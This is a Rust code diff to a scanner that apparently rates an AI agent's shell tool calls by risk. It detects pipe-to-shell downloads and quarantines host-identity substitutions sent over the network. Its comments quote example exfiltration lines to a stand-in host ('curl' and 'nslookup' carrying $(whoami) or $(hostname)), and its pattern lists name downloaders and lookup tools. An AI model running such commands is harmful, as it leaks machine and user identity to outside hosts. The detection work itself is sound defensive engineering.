@@ -407,6 +407,7 @@ pub(crate) struct ToolRules {
     own_key_copy: Regex,
     shell_init: Regex,
     prohibition: Regex,
+    quiet_substitution: Regex,
 }
 
 /// A tool rule's regex, compiled the first time a call needs it (the
@@ -457,6 +458,7 @@ impl ToolRules {
             regex_literal: get("regex_literal")?,
             own_key_copy: get("own_key_copy")?,
             prohibition: get("prohibition")?,
+            quiet_substitution: get("quiet_substitution")?,
         })
     }
 }
@@ -2264,6 +2266,11 @@ fn raw_rules(
             tier = tier_at(span.start);
             break;
         }
+        // `curl | sh` with nothing to fetch names the pattern (a review
+        // checklist's item): it can run nothing.
+        if bare_pattern(&text[span.start..span.end]) {
+            tier = tier.min(Tier::Flag);
+        }
         ctx.add("tool.pipe_to_shell", span, tier);
     }
     if let Some(m) = rules.find_reverse_shell_in(text, census) {
@@ -2393,6 +2400,7 @@ fn subshell_body(
     if in_single_quotes(text, span.start)
         || (in_hash_comment(text, span.start) && !text.contains("<<"))
         || rules.shell_init_at(text, span)
+        || arithmetic(body)
     {
         return;
     }
@@ -2414,9 +2422,53 @@ fn subshell_body(
         // `$(mktemp -d)`: a fresh empty path, in any session.
     } else if tainted {
         ctx.add("tool.subshell", span, Tier::Quarantine);
-    } else if !harmless_subshell(body) {
+    } else if host_fact(body) && leaves_machine(rules, clause_around(text, span.start, span.end)) {
+        // `curl "https://x.example/?u=$(whoami)"`, `nslookup $(hostname).x.example`:
+        // the host's or user's name is sent out, a fingerprint of the machine.
+        ctx.add("tool.subshell", span, Tier::Quarantine);
+    } else if !rules.quiet_substitution.is_match(body) || body.contains("etc/") {
         ctx.add("tool.subshell", span, Tier::Flag);
     }
+}
+
+/// A pipe into a shell whose source is a downloader given nothing to
+/// download (`curl | sh`, `wget|bash`, `iwr | iex`): the pattern's name.
+fn bare_pattern(piped: &str) -> bool {
+    let Some((source, _)) = piped.split_once('|') else {
+        return false;
+    };
+    let mut words = source.split_whitespace();
+    let first = words.next().map(|w| w.trim_start_matches(['`', '"', '\'']));
+    matches!(
+        first.map(str::to_ascii_lowercase).as_deref(),
+        Some("curl" | "wget" | "iwr" | "irm" | "invoke-webrequest" | "invoke-restmethod")
+    ) && words.next().is_none()
+}
+
+/// `$((KEEP * 5 + 1))`: arithmetic expansion (the scanner's body starts at
+/// the second parenthesis) computes a number and runs nothing, unless a
+/// command substitution sits inside it.
+fn arithmetic(body: &str) -> bool {
+    body.starts_with('(') && !body.contains("$(") && !body.contains('`')
+}
+
+/// A substitution that prints the host's or the user's identity.
+fn host_fact(body: &str) -> bool {
+    matches!(
+        body.split_whitespace().next(),
+        Some("hostname" | "uname" | "whoami" | "id" | "logname" | "groups")
+    )
+}
+
+/// Whether a clause sends its arguments off the machine: a network tool
+/// given a host, or a name lookup (`dig`, `nslookup`, `host`), whose query
+/// itself reaches a resolver.
+fn leaves_machine(rules: &ToolRules, clause: &str) -> bool {
+    rules.net_egress.is_match(clause)
+        || matches!(
+            clause.split_whitespace().next(),
+            Some("dig" | "nslookup" | "host" | "drill" | "ping" | "curl" | "wget")
+        )
 }
 
 /// The clause of `text` around `start..end`: from the last `;`, line end
@@ -2484,39 +2536,6 @@ fn prints_count(body: &str) -> bool {
         ["getconf", name] => name.starts_with("_NPROCESSORS_"),
         ["sysctl", "-n", name] => name.starts_with("hw.") && name.ends_with("cpu"),
         ["wc", flag, ..] => matches!(*flag, "-l" | "-c" | "-w"),
-        _ => false,
-    }
-}
-
-/// Read-only helpers commonly used inside `$(…)` in ordinary commands.
-fn harmless_subshell(body: &str) -> bool {
-    let mut words = body.split_whitespace();
-    let first = words.next().unwrap_or("");
-    let second = words.next().unwrap_or("");
-    match first {
-        "date" | "pwd" | "basename" | "dirname" | "nproc" | "realpath" | "readlink" | "seq"
-        | "expr" | "getconf" | "arch" | "tty" | "mktemp" | "printf" | "echo" | "pgrep" | "jobs"
-        | "wc" | "head" | "tail" | "sort" | "tr" | "cut" | "ls" | "find" | "which" | "command"
-        | "type" | "stat" | "du" => !body.contains('/') || !body.contains("etc/"),
-        "git" => matches!(
-            second,
-            "rev-parse"
-                | "describe"
-                | "branch"
-                | "rev-list"
-                | "log"
-                | "symbolic-ref"
-                | "tag"
-                | "diff"
-                | "ls-files"
-                | "status"
-        ),
-        "npm" | "yarn" | "pnpm" => matches!(second, "bin" | "prefix" | "root"),
-        "go" => second == "env",
-        // Listing images (`docker rmi $(docker images -f dangling=true -q)`).
-        "docker" | "podman" => second == "images",
-        "brew" => second == "--prefix",
-        "python" | "python3" => second == "--version",
         _ => false,
     }
 }
